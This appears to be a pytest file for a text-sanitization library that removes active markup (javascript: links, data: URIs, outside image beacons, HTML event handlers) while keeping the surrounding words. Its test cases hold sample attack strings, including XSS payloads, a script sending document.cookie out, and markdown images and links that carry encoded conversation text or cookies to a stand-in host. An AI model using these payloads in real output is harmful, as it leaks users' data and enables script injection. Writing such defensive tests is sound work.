@@ -1,0 +1,324 @@
+"""Text that acts is found in running text, and its words stay; text that only looks like it stays byte for byte."""
+
+import time
+from base64 import b64encode
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from sanitization import Action, Category, Policy, Scrubber, StreamScrubber, everywhere
+from sanitization.detectors.markup.links import GONE, Links
+from sanitization.detectors.markup.urls import Addresses
+from sanitization.kinds import Kind
+from sanitization.pipeline import Numbered, Stage
+from sanitization.policy import Direction
+from sanitization.policy_engine import Judge
+from sanitization.prefilter import opener
+from tests.sanitization.samples import SECRETS
+
+LINKS = Links()
+PLAIN = MarkdownIt("commonmark", {"html": False})
+PLAIN.validateLink = lambda url: True  # type: ignore[method-assign]
+GATES = [name for name, _ in LINKS.gates]
+ONLY = everywhere({Category.MARKUP: Action.REMOVE})
+TALK = b64encode(b"what we talked about yesterday").decode().rstrip("=")
+TOKEN = SECRETS["secret.github.token"]
+
+
+def scrubbed(text: str, policy: Policy = ONLY) -> str:
+    """The text with what acts taken out, and nothing else."""
+    return Scrubber(policy).scrub(text).text
+
+
+ACTING = [
+    ("go [here](javascript:run(1)) now", "markup.link.script", "go here now"),
+    ("go [here](JaVaScRiPt:run(1)) now", "markup.link.script", "go here now"),
+    ("go [here]( javascript:run ) now", "markup.link.script", "go here now"),
+    ("go [here](<javascript:run(1)>) now", "markup.link.script", "go here now"),
+    ('go [here](javascript:run "a title") now', "markup.link.script", "go here now"),
+    ("go [here](java\tscript:run) now", "markup.link.script", "go here now"),
+    ("go [here](javascript&colon;run) now", "markup.link.script", "go here now"),
+    ("go [here](&#x6A;avascript:run) now", "markup.link.script", "go here now"),
+    ("go [here](javascript\\:run) now", "markup.link.script", "go here now"),
+    ("go [here](javascript%3Arun) now", "markup.link.script", "go here now"),
+    ("go [here](java script:run) now", "markup.link.script", "go here now"),
+    ("go [here](feed:javascript:run) now", "markup.link.script", "go here now"),
+    ("go [here](vbscript:run) now", "markup.link.script", "go here now"),
+    ("go [he[r]e](livescript:run) now", "markup.link.script", "go he[r]e now"),
+    ("go [he\nre](javascript:run) now", "markup.link.script", "go he\nre now"),
+    ("go [here](data:text/html,<b>) now", "markup.link.data", "go here now"),
+    ("go [here](blob:https://a.example/1) now", "markup.link.scheme", "go here now"),
+    ("go [here](file:///etc/passwd) now", "markup.link.scheme", "go here now"),
+    ("go [here](ms-msdt:/id) now", "markup.link.scheme", "go here now"),
+    ('go [here](x"onfocus="run(1)) now', "markup.link.breakout", "go here now"),
+    ("go [here](https://bank.example@else.example/in) now", "markup.link.credentials", "go here now"),
+    ("[https://bank.example/](https://else.example/)", "markup.link.deceptive", "https://bank.example/"),
+    (f"go [here](https://else.example/{TALK}) now", "markup.link.exfiltration", "go here now"),
+    (f"go [here](https://else.example/?z={TALK}) now", "markup.link.exfiltration", "go here now"),
+    ("go [here](https://else.example/?cookie=abcdefgh) now", "markup.link.exfiltration", "go here now"),
+    ("go [here](https://else.example/?d=she+said+it+is+fine) now", "markup.link.exfiltration", "go here now"),
+    ("![a chart](https://else.example/c.png) ok", "markup.image.host", "a chart ok"),
+    ("![](http://192.0.2.7:81/c) ok", "markup.image.host", " ok"),
+    ("![a](//else.example/c) ok", "markup.image.host", "a ok"),
+    ("![a](/\\else.example/c) ok", "markup.image.host", "a ok"),
+    ("![a](\\\\else.example/c) ok", "markup.image.host", "a ok"),
+    ("![a](https:else.example/c) ok", "markup.image.host", "a ok"),
+    ("![a](ftp://else.example/c) ok", "markup.image.host", "a ok"),
+    ("![a](javascript:run) ok", "markup.image.script", "a ok"),
+    ("![a](data:image/svg+xml;base64,PHN2Zz4=) ok", "markup.image.data", "a ok"),
+    ("![a][r] ok", "markup.image.reference", "a ok"),
+    ("![a][] ok", "markup.image.reference", "a ok"),
+    ("x\n\n[r]: javascript:run\nok", "markup.link.script", "x\n\n\nok"),
+    ("x\n\n> [r]: <data:text/html,x>\nok", "markup.link.data", "x\n\n> \nok"),
+    ("x\n\n[r]:\n  vbscript:x 'title'\nok", "markup.link.script", "x\n\n\nok"),
+    ("x\n\n[r]: https://else.example/c.png\nok", "markup.image.host", "x\n\n\nok"),
+    ("![r] x\n\n[r]: https://else.example/?u=1\nok", "markup.image.host", "![r] x\n\n\nok"),
+    ("go <javascript:run(1)> now", "markup.link.script", f"go {GONE} now"),
+    ("go <data:text/html,x> now", "markup.link.data", f"go {GONE} now"),
+    (f"see https://else.example/log?q={TALK} now", "markup.link.exfiltration", f"see {GONE} now"),
+    ("see https://www.bank.example@else.example/ now", "markup.link.credentials", f"see {GONE} now"),
+    ("a <img src=x onerror=alert(1)> b", "markup.html.handler", "a <img> b"),
+    ("a <svg/onload='fetch(`//x`)'> b", "markup.html.handler", "a <svg> b"),
+    ("a <a href=' javascript:run()'>x</a> b", "markup.link.script", "a <a>x</a> b"),
+    ("a <iframe src=javascript:run()></iframe> b", "markup.link.script", "a <iframe></iframe> b"),
+    ("a <img src='https://else.example/p?u=ann'> b", "markup.image.host", "a <img> b"),
+    ('<a href="https://else.example/">https://bank.example/</a>', "markup.link.deceptive", "<a>https://bank.example/</a>"),
+    ("<script>new Image().src='//x/'+document.cookie</script>ok", "markup.html.script", "<script></script>ok"),
+    ("a { background: url('javascript:run') }", "markup.css", "a { background: url('') }"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "kind", "clean"), ACTING)
+def test_what_acts_goes_and_its_words_stay(text: str, kind: str, clean: str) -> None:
+    """The address is taken out, the label is not; the finding says what was wrong."""
+    assert scrubbed(text) == clean
+    assert {finding.kind for finding in Scrubber(ONLY).scrub(text).findings} == {kind}
+
+
+HARMLESS = [
+    "a < b, a<b>c, List<int>, Vec<Option<Box<T>>>, <ada@example.org>, if (a<b && c>d)",
+    "[guide](https://docs.example.org/a/b.html?lang=en&page=2#part-3) and [mail](mailto:a@example.org)",
+    "[search](https://www.example.com/search?q=how+do+I+sort+a+list+in+rust&hl=en)",
+    "[share](https://example.com/intent?text=have%20a%20look%20at%20this%20page)",
+    "[sheet](https://docs.example.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
+    "[commit](https://example.com/r/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
+    "[https://example.org/a](https://www.example.org/b) [www.example.org](https://example.org/)",
+    "[up](../README.md) [part](#part) [q](?page=2) [call](tel:+4930123456) [a b](<a b.md>)",
+    "![logo](images/logo.png) ![own](/static/a.png) ![dot](data:image/png;base64,iVBORw0KGgo=)",
+    "![logo][1] of ours\n\n[1]: images/logo.png\n",
+    "[docs][1] and [more]\n\n[1]: https://docs.example.org/?page=2\n[more]: <https://example.org/x> 'Title'\n",
+    "https://example.com/watch?v=dQw4w9WgXcQ&t=42s and https://user@example.com/team/repo.git",
+    "https://example.com/a?utm_source=news&gclid=EAIaIQobChMI0Z3k5vbV_QIVkoBQBh0uXgQ9EAAYASAAEgKx",
+    "postgres://user:pass@db.example:5432/x and ssh://git@example.com/x and git@example.com:x/y",
+    "let v = vec![1, 2, 3]; if (![1, 2].includes(x)) a[0][1](b); m[key](https)",
+    "- [ ] open\n- [x] done\n\nA note[^1].\n\n[^1]: as he said in 1999.",
+    "javascript: is a scheme, data: too; JavaScript: The Good Parts; the onerror attribute",
+    "`<script>` at the end of `<body>`; `<img src=x onerror=alert(1)>` is an attack",
+    "    <script>document.cookie</script>\n",
+    "```html\n<img src=x onerror=alert(1)>\n<a href='javascript:x()'>y</a>\n```\n",
+    "~~~\n<script>fetch('/x')</script>\n~~~\n",
+    "<button onclick=\"save()\">Save</button> <div class='a'>b</div> <br> <p>x</p>",
+    '<img src="https://example.com/a.png" alt="x"> <img src="https://example.com/300?random=1">',
+    '<script src="https://cdn.example.com/lib@5.1/dist/lib.min.js"></script> <a href="javascript:void(0)">x</a>',
+    '<iframe src="https://video.example.com/embed/x1?start=10"></iframe> <Button onClick={() => save(1)}>x</Button>',
+    ".a { background: url(https://example.com/bg.png) } .b { background: url(data:image/svg+xml;utf8,x) }",
+    "&lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](y) [[wiki]] [a](b [c] d](e) ](x)",
+    "\ud800[x](a)\udfff <\udc00a> [\ud800](\ud800)",
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_does_not_act_stays(text: str) -> None:
+    """Ordinary links, pictures of the house, code and talk about markup pass byte for byte."""
+    done = Scrubber(ONLY).scrub(text)
+    assert (done.text, done.findings) == (text, ())
+
+
+def test_the_policys_hosts_may_be_told_things() -> None:
+    """A named host may have its images shown, and may be sent data by link; another stays foreign."""
+    policy = Policy(
+        outbound=ONLY.outbound, link_hosts=frozenset({"our.example"}), image_hosts=frozenset({"pic.example"})
+    )
+    keeps = f"![a](https://pic.example/a.png?u=1) [b](https://our.example/?d={TALK}) https://our.example/{TALK} x"
+    assert scrubbed(keeps, policy) == keeps
+    assert (
+        scrubbed("![a](https://our.example/a.png) [b](https://pic.example/)", policy) == "a [b](https://pic.example/)"
+    )
+    assert scrubbed("![a](https://pic.example@our.example/a.png)", policy) == "a"
+
+
+@pytest.mark.parametrize("kind", LINKS.kinds, ids=lambda kind: kind.name)
+def test_each_kind_has_an_example_in_which_it_is_found(kind: Kind) -> None:
+    """The reference shows what is true."""
+    assert {hit.kind for hit in LINKS.find(kind.example)} == {kind.name}
+
+
+def test_an_image_with_a_secret_in_it_goes_as_a_whole() -> None:
+    """What leaves with the address is not left in its label; what is only flagged shields nothing."""
+    text = f"![see {TOKEN}](https://else.example/?k={TOKEN}) x"
+    assert Scrubber().scrub(text).text == "see [redacted] x"
+    flagging = everywhere({Category.MARKUP: Action.FLAG, Category.SECRET: Action.REMOVE})
+    done = Scrubber(flagging).scrub(text)
+    assert done.text == "![see [redacted]](https://else.example/?k=[redacted]) x"
+    assert [finding.kind for finding in done.findings].count("markup.image.host") == 2
+    removing = everywhere({Category.MARKUP: Action.REMOVE, Category.SECRET: Action.FLAG})
+    told = Scrubber(removing).scrub(f"![a](https://else.example/?k={TOKEN}) x")
+    assert told.text == "a x"
+    assert "secret.github.token" in {finding.kind for finding in told.findings}
+
+
+@pytest.mark.parametrize("padding", range(250, 330, 7))
+def test_a_long_address_loses_its_host_and_hides_no_secret(padding: int) -> None:
+    """What is too long to be read is no image any more, and its rest is read for secrets like any other text."""
+    out = Scrubber().scrub(f"![a](https://else.example/?d={'z' * padding}/{TOKEN}) x").text
+    assert "else.example" not in out
+    assert TOKEN[:8] not in out
+
+
+NESTED = "[![badge](https://else.example/b.svg)](https://ok.example/)"
+LONG = f"![{'long label ' * 30}](https://else.example/c.png)"
+DEEP = "![a [b [c [d]]]](https://else.example/c.png)"
+
+
+def test_no_form_of_label_lets_an_image_through() -> None:
+    """Images within links, labels beyond the bound, brackets deeper than the bound."""
+    assert scrubbed(NESTED) == "[badge](https://ok.example/)"
+    assert "else.example" not in scrubbed(LONG)
+    assert "else.example" not in scrubbed(DEEP)
+    linked = f"[{'long label ' * 30}](https://ok.example/c)"
+    assert scrubbed(linked) == linked
+
+
+PIECES = [
+    "[", "]", "(", ")", "![", "](", "][", "]:", "!", "<", ">", "\n", "\n\n", " ", "label", "javascript:x", "\\", "`",
+    "https://else.example/a.png", f"https://else.example/?d={TALK}", "data:text/html,x", "images/pic.png", "[1]: ",
+    "\n[1]: https://else.example/x.png", '"title"', "```html\n", "<img src=x onerror=alert(1)>", "<a href='", "'>",
+    "<script>", "fetch(1)", "</script>", "x" * 90, "y z " * 40, "<javascript:x>", "url(", "https://a.bank@e.example/",
+    "é", "中文", "\t", "=", "\ud800",
+]  # fmt: skip
+
+
+def in_pieces(chunks: list[str], *, plain: bool) -> str:
+    """What comes out of a stage with this detector alone."""
+    live = opener((LINKS.gates,), plain=plain)
+    stage = Stage([Numbered(0, LINKS)], Judge(ONLY, Direction.OUTBOUND, None), words=True)
+    return "".join([*(stage.feed(chunk, live(stage.held + chunk)) for chunk in chunks), stage.flush(live(stage.held))])
+
+
+@pytest.mark.slow
+@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.data())
+@settings(max_examples=300, deadline=None)
+def test_any_cut_gives_the_whole_and_the_gates_miss_nothing(text: str, data: st.DataObject) -> None:
+    """Behind gates and in pieces the same is found as by reading everything at once."""
+    expected, position = "", 0
+    for hit in LINKS.find(text, 0, GATES):
+        expected, position = expected + text[position : hit.start] + hit.replacement, hit.end
+    expected += text[position:]
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
+    chunks = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    for plain in (False, True):
+        assert in_pieces(chunks, plain=plain) == expected
+        assert in_pieces(list(text), plain=plain) == expected
+
+
+@pytest.mark.slow
+@given(st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
+@settings(max_examples=200, deadline=None)
+def test_it_has_no_memory(text: str) -> None:
+    """Beginning anew outside a find finds the same."""
+    hits = list(LINKS.find(text, 0, GATES))
+    for place in range(len(text) + 1):
+        if not any(hit.anchor < place < hit.end for hit in hits):
+            assert list(LINKS.find(text, place, GATES)) == [hit for hit in hits if hit.anchor >= place]
+
+
+UNCLEAR = [
+    "<img src='//else.example/?d=x <b> y' z> c",
+    "<a href='//else.example/?d=one two <b>three four' x='>'>y</a>",
+    "[a [b](javascript:x) c](d)",
+    "![a][1] b\n\n[1]: images/a.png\n",
+    "![a][1] b\n\n[1]: //else.example/a.png\n",
+    "[a\n\n](javascript:x)",
+    "![a](https://else.example/" + "x" * 400 + ") b",
+]
+"""What a piece may mean depends on the next."""
+
+
+@pytest.mark.parametrize("text", [text for text, _, _ in ACTING] + UNCLEAR)
+def test_a_stream_shows_no_address_at_any_cut(text: str) -> None:
+    """However a text is cut in two, the same comes out."""
+    whole = scrubbed(text)
+    for cut in range(len(text) + 1):
+        stream = StreamScrubber(ONLY)
+        assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush() == whole
+
+
+def test_little_is_held_back() -> None:
+    """An open bracket waits for its end, not for the end of the text."""
+    stream = StreamScrubber(ONLY)
+    given = out = 0
+    for word in ["[", "so ", "it ", "![goes "] * 500:
+        given += len(word)
+        out += len(stream.feed(word))
+        assert given - out < 1_200
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "unit",
+    ["[", "](", "][", "[a](", "![a][b] ", "[a]: x\n", "<a ", "<img src='", "<a b=\"<a c='", "<script>", "https://a@",
+     "url(", "[x](javascript:x)", "[x]((((", "\n```\n<a ", "[a\n", "\\[", "![a](https://e.example/?",
+     "<a onload=alert( ", "`<a ", "![[", "[a](b", "[[a]", "[a[", "<script "],
+)  # fmt: skip
+def test_hostile_text_takes_linear_time(unit: str) -> None:
+    """Half a megabyte a second is the promise; quadratic work would take minutes."""
+    text = unit * (200_000 // len(unit))
+    began = time.thread_time()
+    Scrubber(ONLY).scrub(text)
+    assert time.thread_time() - began < 3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "!{}(https://else.example/a.png)", "!{}[a](https://else.example/a.png)", "[a]{}(javascript:x)",
+        "![a]{}(https://else.example/a.png)", "{}: https://else.example/a.png", "[a]{}: javascript:x",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize(
+    "gone",
+    [
+        "<javascript:x>", "![](javascript:x)", "[](javascript:x)", "[wow!](javascript:x)", "[[b]](javascript:x)",
+        "[a[b]](javascript:x)", "![[c](d)](javascript:x)", "![(javascript:y)](javascript:x)", "![: x](javascript:x)",
+        "<img src=x onerror=alert(1)>", f"https://else.example/{TALK}", "![r][s]", "<script>fetch('x')</script>",
+    ],
+)  # fmt: skip
+def test_what_is_left_makes_no_new_link(text: str, gone: str) -> None:
+    """Nothing comes to stand beside something else that would make it act: what came out has nothing left to find."""
+    once = scrubbed(text.replace("{}", gone))
+    assert scrubbed(once) == once
+    tokens = PLAIN.parseInline(once)[0].children or []
+    assert [each.attrGet("src") for each in tokens if each.type == "image"] == []
+    assert not any(str(each.attrGet("href")).startswith("javascript") for each in tokens)
+
+
+def test_a_detector_without_hosts_knows_none() -> None:
+    """`of` gives the one for a policy, and the same one for the same hosts."""
+    policy = Policy(image_hosts=frozenset({"a.example"}))
+    assert LINKS.of(policy) is LINKS.of(policy.with_image_hosts("a.example"))
+    assert not list(LINKS.of(policy).find("![x](https://a.example/x.png)"))
+    assert list(Links(Addresses()).find("![x](https://a.example/x.png)"))
+
+
+@pytest.mark.parametrize(
+    "address", ["javascript:x", "//x\\@else.example", "x&#58;y", "x%3ay", "x\"onclick='y", "x`y", "<x"]
+)
+@pytest.mark.parametrize("bang", ["", "!"])
+def test_a_long_text_behind_a_link_hides_nothing(address: str, bang: str) -> None:
+    """Where nothing that could be wrong stands in all that is read, no link is looked at; one sign is enough."""
+    text = f"{bang}[here]({address})"
+    for tail in (" and so on" * 60, "a" * 600):
+        assert scrubbed(text + tail) == scrubbed(text) + tail
+    assert scrubbed(f"{bang}[here](a" + " b" * 300) == f"{bang}[here](a" + " b" * 300
